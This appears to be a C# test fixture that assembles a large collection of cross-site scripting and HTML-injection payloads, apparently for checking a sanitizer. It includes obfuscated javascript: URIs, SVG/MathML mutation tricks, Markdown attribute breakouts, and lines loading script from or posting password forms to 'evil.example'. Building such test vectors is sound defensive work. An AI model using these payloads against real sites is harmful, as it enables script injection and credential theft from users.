namespace Digest.Testing;

/// <summary>Bodies that try to bring script, style, forms or foreign elements onto a page.</summary>
public static class AttackVectors
{
    private const string Code = "alert(1)";

    private static readonly string[] Handlers =
    [
        "onabort", "onafterprint", "onanimationend", "onanimationstart", "onauxclick", "onbeforecopy", "onbeforeinput",
        "onbeforematch", "onbeforeprint", "onbeforetoggle", "onbeforeunload", "onblur", "oncancel", "oncanplay", "onchange",
        "onclick", "onclose", "oncontentvisibilityautostatechange", "oncontextmenu", "oncopy", "oncuechange", "ondblclick", "ondrag",
        "ondrop", "onend", "onerror", "onfocus", "onfocusin", "onformdata", "onfullscreenchange", "ongotpointercapture", "onhashchange",
        "oninput", "oninvalid", "onkeydown", "onload", "onloadstart", "onmessage", "onmousedown", "onmouseenter", "onmouseover",
        "onmousewheel", "onpageshow", "onpaste", "onplay", "onpointerdown", "onpointerrawupdate", "onpopstate", "onrepeat", "onreset",
        "onresize", "onscroll", "onscrollend", "onscrollsnapchange", "onsearch", "onselect", "onselectstart", "onshow", "onslotchange",
        "onstart", "onsubmit", "ontoggle", "ontouchstart", "ontransitionend", "onunload", "onwheel", "onwebkitanimationend",
    ];

    // Elements that browsers run handlers on without being asked to.
    private static readonly string[] Eager =
    [
        "<img src=x {0}={1}>", "<details open {0}={1}>x</details>", "<a href=# {0}='{1}' autofocus>x</a>", "<p/{0}={1}>x</p>",
        "<td {0}\n=\n\"{1}\">x</td>", "<b \u000c{0}={1}>x</b>", "<i x=\">\" {0}={1}>x</i>", "<q cite='a' {0} = {1} >x</q>",
        "<IMG SRC=x {0}={1}>", "<li style=x {0}=\"&#97;lert(1)\">x</li>",
    ];

    private static readonly string[] Schemes =
    [
        "javascript:alert(1)", "JAVASCRIPT:alert(1)", "jav\tascript:alert(1)", "jav\nascript:alert(1)", "jav\rascript:alert(1)",
        "\u0001javascript:alert(1)", "\u0000javascript:alert(1)", " javascript:alert(1)", "\u00a0javascript:alert(1)",
        "&#106;avascript:alert(1)", "&#x6a;avascript:alert(1)", "&#0000106avascript:alert(1)", "java&Tab;script:alert(1)",
        "java&NewLine;script:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript://x%0aalert(1)",
        "javascript:/*https://a.example/*/alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
        "data:application/xhtml+xml,<x/>", "livescript:x", "mocha:x", "blob:https://a.example/1", "filesystem:https://a.example/x",
        "view-source:https://a.example/", "feed:javascript:alert(1)", "jar:javascript:alert(1)!/", "about:blank#x", "file:///etc/passwd",
        "intent://x#Intent;end", "ms-msdt:x", "x-apple:x", "\u202ejavascript:alert(1)", "java\u200bscript:alert(1)", "//\\javascript:alert(1)",
    ];

    private static readonly string[] Carriers =
    [
        "<a href=\"{0}\">x</a>", "[x]({0})", "[x](<{0}>)", "![x]({0})", "[x]: {0}\n\n[x]", "<{0}>", "<img src=\"{0}\">",
    ];

    private static readonly string[] Foreign =
    [
        "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) /></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><set attributeName=href to=javascript:alert(1)>", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x\"/></svg>", "<svg><image href=javascript:alert(1) /></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>", "<svg><style>@import 'x'</style></svg>",
        "<svg><title><img src=x onerror=alert(1)></title></svg>", "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
        "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">", "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
        "<svg/onload=alert(1)>", "<svg><g onload=alert(1)></g></svg>", "<svg xmlns:xlink=x><a xlink:href=javascript:alert(1)><circle r=9 /></a></svg>",
        "<svg><handler type=text/javascript>alert(1)</handler></svg>", "<svg><discard onbegin=alert(1)>", "<svg><feImage href=javascript:alert(1)>",
        "<svg><metadata><script>alert(1)</script></metadata></svg>", "<svg><mpath href=javascript:alert(1)>", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
        "<svg><!--</svg><img src=x onerror=alert(1)>-->", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        "<math href=javascript:alert(1)>x</math>", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
        "<math><annotation-xml encoding=\"application/xhtml+xml\"><img src=x onerror=alert(1)></annotation-xml></math>",
        "<math><mtext><script>alert(1)</script></mtext></math>", "<math><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src=x>\">",
        "<math><mi><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><semantics><annotation-xml><svg><style><img src=x onerror=alert(1)></style></svg></annotation-xml></semantics></math>",
        "<math><style><img src=x onerror=alert(1)></style></math>", "<math><ms><a href=javascript:alert(1)>x</a></ms></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<math><mn><b/onclick=alert(1)>x</mn></math>",
    ];

    private static readonly string[] Mutations =
    [
        "<table><td><script>alert(1)</script></table>", "<table><script>alert(1)</script></table>", "<table><a href=javascript:alert(1)>x</table>",
        "<table><img src=x onerror=alert(1)></table>", "<table><caption><svg><style><img src=x onerror=alert(1)></style></svg></caption></table>",
        "<table><colgroup><template><img src=x onerror=alert(1)></template></colgroup></table>", "<table><tr><svg><td><style><img src=x onerror=alert(1)>",
        "<select><option><img src=x onerror=alert(1)></option></select>", "<select><template><script>alert(1)</script></template></select>",
        "<select><svg><style><img src=x onerror=alert(1)></style></svg></select>", "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
        "<noscript><img title=\"</noscript><script>alert(1)</script>\"></noscript>", "<style><style/><img src=x onerror=alert(1)>",
        "<style>/*</style><img src=x onerror=alert(1)>*/", "<title><style></title><img src=x onerror=alert(1)></style>", "<textarea></textarea><img src=x onerror=alert(1)>",
        "<textarea><script></textarea><img src=x onerror=alert(1)></script>", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>", "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
        "<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>", "<plaintext></plaintext><img src=x onerror=alert(1)>",
        "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<pre>\n\n<img src=x onerror=alert(1)></pre>", "<p><svg><p><script>alert(1)</script>",
        "<a><svg><a><style><img src=x onerror=alert(1)>", "<b><p><b><svg><desc><b><img src=x onerror=alert(1)>", "<form id=a><form id=b><input name=c formaction=javascript:alert(1)>",
        "<div><!--x--!><img src=x onerror=alert(1)>--></div>", "<!--><script>alert(1)</script>-->", "<!---><script>alert(1)</script>-->", "<!-- --!><script>alert(1)</script>",
        "<!doctype x [<!ENTITY y \"<script>alert(1)</script>\">]>&y;", "<?php echo '<script>alert(1)</script>' ?>", "<?x ><img src=x onerror=alert(1)>?>", "<![if 1]><script>alert(1)</script><![endif]>",
        "</p><script>alert(1)</script>", "</body></html><script>alert(1)</script>", "</article></main><script>alert(1)</script>", "</script><script>alert(1)</script>",
        "</style><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</br onclick=alert(1)>", "</p onclick=alert(1)>",
        "<script/x>alert(1)</script>", "<script\u000c>alert(1)</script>", "<script\n>alert(1)</script\n>", "<ſcript>alert(1)</ſcript>", "<\u0000script>alert(1)</script>",
        "<scr\u0000ipt>alert(1)</scr\u0000ipt>", "<<script>alert(1)</script>", "<script>alert(1)", "<script src=https://evil.example/x.js>", "<script type=module>import 'https://evil.example'</script>",
        "<script type=importmap>{}</script>", "<script type=speculationrules>{\"prefetch\":[]}</script>", "<template shadowrootmode=open><script>alert(1)</script></template>",
        "<ruby><rt><svg><style><img src=x onerror=alert(1)></style></svg></rt></ruby>", "<dl><dt><template><img src=x onerror=alert(1)></template></dt></dl>",
        "<details><summary><math><mtext><img src=x onerror=alert(1)></mtext></math></summary></details>", "<figure><figcaption><noscript><img src=x onerror=alert(1)></noscript></figcaption></figure>",
        "<h2><h3><svg onload=alert(1)></h3></h2>", "<a href=x><a href=javascript:alert(1)>y</a></a>", "<nobr><nobr onclick=alert(1)>x</nobr>", "<marquee onstart=alert(1)>x</marquee>",
        "<isindex type=image src=x onerror=alert(1)>", "<image src=x onerror=alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<bgsound src=javascript:alert(1)>", "<layer src=javascript:alert(1)></layer>",
    ];

    private static readonly string[] Elements =
    [
        "<style>*{display:none}</style>", "<link rel=stylesheet href=//evil.example/>", "<link rel=preload as=script href=//evil.example/>", "<link rel=import href=//evil.example/>",
        "<link rel=manifest href=//evil.example/>", "<meta http-equiv=refresh content=0;url=javascript:alert(1)>", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<meta http-equiv=set-cookie content=a=b>",
        "<meta name=referrer content=unsafe-url>", "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<base href=//evil.example/>", "<base target=_blank>", "<form action=//evil.example/><input type=password></form>",
        "<form><button formaction=javascript:alert(1)>x</button></form>", "<button form=search formaction=//evil.example/>x</button>", "<input form=search name=q>", "<input type=image src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>",
        "<isindex action=javascript:alert(1)>", "<dialog open onclose=alert(1)>x</dialog>", "<button popovertarget=a>x</button><p popover id=a onbeforetoggle=alert(1)>", "<slot onslotchange=alert(1)></slot>", "<portal src=//evil.example/></portal>", "<fencedframe></fencedframe>",
        "<iframe src=//evil.example/></iframe>", "<iframe srcdoc='<p onclick=alert(1)>'></iframe>", "<iframe src=data:text/html,x></iframe>", "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>", "<object data=javascript:alert(1)></object>", "<object type=text/x-scriptlet data=//evil.example/></object>",
        "<embed src=javascript:alert(1)>", "<embed code=//evil.example/x.swf allowscriptaccess=always>", "<applet code=x></applet>", "<audio src=x onerror=alert(1)></audio>", "<video poster=javascript:alert(1)></video>", "<video><source onerror=alert(1)></video>", "<track src=x onerror=alert(1)>",
        "<canvas id=c></canvas>", "<map name=m><area href=javascript:alert(1) shape=default></map><img usemap=#m src=x>", "<img src=a.png srcset='javascript:alert(1) 1x'>", "<img srcset='x 1x, data:image/svg+xml,<svg/onload=alert(1)> 2x' src=a.png>", "<picture><source srcset=x onerror=alert(1)><img src=x></picture>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">", "<img src=data:image/svg+xml;utf8,<svg/onload=alert(1)>>", "<img src=a.png lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>", "<img src=a.png longdesc=javascript:alert(1)>", "<img src='x' crossorigin onerror=alert(1)//'>",
        "<a href=https://a.example ping=//evil.example>x</a>", "<a href=https://a.example target=_top rel=opener download>x</a>", "<a id=location href=https://a.example name=cookie>x</a>", "<a name=getElementById>x</a>", "<a id=a><a id=a name=b href=cid:x>x</a>", "<p style=\"background:url(//evil.example)\">x</p>",
        "<p style=\"position:fixed;inset:0\">x</p>", "<p style='behavior:url(x)'>x</p>", "<p style='x:expression(alert(1))'>x</p>", "<blockquote cite=javascript:alert(1)>x</blockquote>", "<q cite=javascript:alert(1)>x</q>", "<del cite=javascript:alert(1)>x</del>", "<body onload=alert(1) background=javascript:alert(1)>", "<html manifest=//evil.example/>",
        "<table background=javascript:alert(1)><td>x</table>", "<td background=javascript:alert(1)>x</td>", "<p is=x-y contenteditable tabindex=1 accesskey=x>x</p>", "<p draggable=true inert hidden slot=a part=b nonce=c>x</p>", "<x-y onclick=alert(1)>x</x-y>", "<xss style=animation-name:x onanimationend=alert(1)></xss>", "<foo:script xmlns:foo=http://www.w3.org/1999/xhtml>alert(1)</foo:script>",
        "<command onclick=alert(1)>", "<menu><menuitem onclick=alert(1)></menu>", "<progress onclick=alert(1)></progress>", "<output onclick=alert(1)>x</output>", "<fieldset onclick=alert(1)><legend onclick=alert(1)>x</legend></fieldset>", "<address onclick=alert(1)>x</address>", "<bdo onclick=alert(1)>x</bdo>", "<data onclick=alert(1)>x</data>",
    ];

    private static readonly string[] Markdown =
    [
        "[x](https://a.example \"\" onclick=alert(1)\")", "[x](https://a.example '\" onclick=alert(1) x=\"')", "[x](https://a.example/\"onclick=alert(1))", "[x](<https://a.example/\" onclick=\"alert(1)>)", "![\" onerror=\"alert(1)](x.png)", "![x](x.png \"\\\" onerror=alert(1)\")",
        "![<img src=x onerror=alert(1)>](a.png)", "[<script>alert(1)</script>](https://a.example)", "[`<script>`](javascript:alert(1))", "[x][y]\n\n[y]: <javascript:alert(1)> \"t\"", "[x]\n\n[x]: data:text/html,<script>alert(1)</script>", "[x][]\n\n[x]: vbscript:x",
        "![x][y]\n\n[y]: javascript:alert(1)", "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x", "[^a]\n\n[^a]: [x](javascript:alert(1))", "[^a]\n\n[^a]: <img src=x onerror=alert(1)>", "*[HTML\" onclick=alert(1)]: \"><script>alert(1)</script>\n\nHTML",
        "*[X]: \" onmouseover=\"alert(1)\n\nX", "# x {#\" onclick=alert(1)}", "# x {onclick=alert(1)}", "# x {: onclick=\"alert(1)\" style=\"x\"}", "x\n{: .a onclick=alert(1)}", "[x](https://a.example){onclick=alert(1)}", "[x](https://a.example){: target=_blank onclick=alert(1)}",
        "```js onclick=alert(1)\nx\n```", "```\"><script>alert(1)</script>\nx\n```", "```{.a onclick=alert(1)}\nx\n```", "~~~<script>\nalert(1)\n~~~", "`<script>alert(1)</script>`", "    <script>alert(1)</script>", "$$\n<script>alert(1)</script>\n$$", "$<img src=x onerror=alert(1)>$",
        "| a |\n|---|\n| <script>alert(1)</script> |", "| <img src=x onerror=alert(1)> |\n|:-:|\n| [x](javascript:alert(1)) |", "> [!NOTE]\n> <script>alert(1)</script>", "> [!\"><script>]\n> x", "- [ ] <input type=text onfocus=alert(1) autofocus>", "- [x](javascript:alert(1))", "a\n:   <script>alert(1)</script>",
        "[[javascript:alert(1)]]", "[[x|<script>alert(1)</script>]]", "[[\"><script>alert(1)</script>]]", "[[x#\" onclick=\"alert(1)]]", "<javascript:alert(1)>", "<JAVASCRIPT:alert&#40;1&#41;>", "<x@y.example\" onclick=alert(1)>", "https://a.example/\"onclick=alert(1)",
        "https://a.example/<script>alert(1)</script>", "www.a.example/'onclick='alert(1)", "javascript:alert(1)", "mailto:x@a.example?subject=<script>alert(1)</script>", "tel:1\"onclick=alert(1)", "x^<script>^", "~<b onclick=alert(1)>~", "==<script>alert(1)</script>==", "~~<img src=x onerror=alert(1)>~~",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\<script>alert(1)\\</script>", "<scr\\ipt>alert(1)</script>", "{{< figure src=\"x\\\" onerror=alert(1)\" >}}", "{{< figure src=\"x\" link=\"javascript:alert(1)\" >}}", "{{< figure src=\"javascript:alert(1)\" alt=\"x\" >}}", "{{< youtube \"\\\" onclick=alert(1)\" >}}",
        "{{< gist <script> alert(1) >}}", "{% highlight <script> %}\nx\n{% endhighlight %}", "{% link javascript:alert(1).md %}", "{{ '\"><script>alert(1)</script>' | relative_url }}", "[x]({{ 'javascript:alert(1)' | relative_url }})", "{{ site.baseurl }}javascript:alert(1)", "[x]({{ site.url }}javascript:alert(1))", "{% comment %}--><script>alert(1)</script>{% endcomment %}",
        "dg.link.0. <a href=\"dg.link.0.\">x</a>", "<a href='dg.link.0.\" onclick=\"alert(1)'>x</a> [y](z.md)", "<img src=\"dg.link.7.\" alt=x>", "[x](dg-name:javascript:alert(1))", "[x](dg-name:%22%3E%3Cscript%3E)", "<a href=\"dg-name:x\" onclick=alert(1)>x</a>", "[x](/\\evil.example)", "[x](\\\\evil.example)", "[x](https:javascript:alert(1))",
    ];

    /// <summary>Every body.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. Handlers.Select((h, i) => Filled(Eager[i % Eager.Length], h, Code)),
        .. Eager.Select(e => Filled(e, "onclick", "alert`1`")),
        .. Schemes.SelectMany((s, i) => Carriers.Where((_, c) => c < 2 || (c + i) % 3 == 0).Select(c => Filled(c, s, ""))),
        .. Foreign, .. Mutations, .. Elements, .. Markdown,
    ];

    private static string Filled(string pattern, string first, string second) =>
        pattern.Replace("{0}", first, StringComparison.Ordinal).Replace("{1}", second, StringComparison.Ordinal);
}
